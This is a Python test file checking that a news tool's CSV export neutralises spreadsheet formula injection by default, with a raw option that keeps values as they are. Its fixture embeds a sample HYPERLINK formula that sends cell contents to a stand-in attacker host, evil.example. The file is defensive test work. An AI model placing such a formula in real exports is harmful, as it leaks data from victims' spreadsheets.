"""CSV exports: cells a spreadsheet would run as formulas are made inert, unless raw."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from newsgraph import exporters
from newsgraph.cli.main import app
from newsgraph.exporters.csv_export import neutralise
from newsgraph.model import Article, DocResult, Place, PlaceMention, Quote
from newsgraph.store import Store

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
TEXT = f"LIMA - A resident said: {FORMULA} and left Lima."
runner = CliRunner()


def _at(part: str) -> tuple[int, int, str]:
    start = TEXT.index(part)
    return start, start + len(part), part


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    lima = Place("geo:3936456", "Lima", "city", "PER", -12.04318, -77.02824, 3936456)
    result = DocResult(
        article=Article(id="lima", text=TEXT, title="-1 dead", published="2025-03-04"),
        published="2025-03-04",
        published_from="metadata",
        places=[PlaceMention(*_at("Lima"), lima)],
        quotes=[Quote(*_at(FORMULA), direct=True, cue="said")],
    )
    path = tmp_path_factory.mktemp("csv") / "kb.db"
    with Store(path) as store:
        store.save(result)
    return path


def _rows(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_formulas_are_neutralised_by_default(db, tmp_path):
    with Store(db, readonly=True) as store:
        exporters.write("csv", store, tmp_path / "safe")
    assert _rows(tmp_path / "safe", "quotes")[0]["text"] == "'" + FORMULA
    assert _rows(tmp_path / "safe", "documents")[0]["title"] == "'-1 dead"
    places = pd.read_csv(tmp_path / "safe" / "places.csv")
    assert places["lon"][0] == pytest.approx(-77.02824)  # numbers stay numbers
    assert places["lat"][0] == pytest.approx(-12.04318)


def test_raw_keeps_values(db, tmp_path):
    with Store(db, readonly=True) as store:
        exporters.write("csv", store, tmp_path / "raw", csv_raw=True)
        with pytest.raises(exporters.ExportError, match="csv"):
            exporters.write("json", store, tmp_path / "x.json", csv_raw=True)
    assert _rows(tmp_path / "raw", "quotes")[0]["text"] == FORMULA
    assert _rows(tmp_path / "raw", "documents")[0]["title"] == "-1 dead"


def test_cli_option(db, tmp_path):
    for args, expected in (([], "'" + FORMULA), (["--csv-raw"], FORMULA)):
        out = tmp_path / f"cli{len(args)}"
        result = runner.invoke(
            app, ["export", "--db", str(db), "--format", "csv", "-o", str(out), *args]
        )
        assert result.exit_code == 0, result.output
        assert _rows(out, "quotes")[0]["text"] == expected
    result = runner.invoke(app, ["export", "--db", str(db), "--csv-raw"])  # json
    assert result.exit_code == 2 and "csv" in result.output


def test_neutralise():
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell
    for cell in ("plain", "", " =x", -1, -1.5, 0):
        assert neutralise(cell) == cell
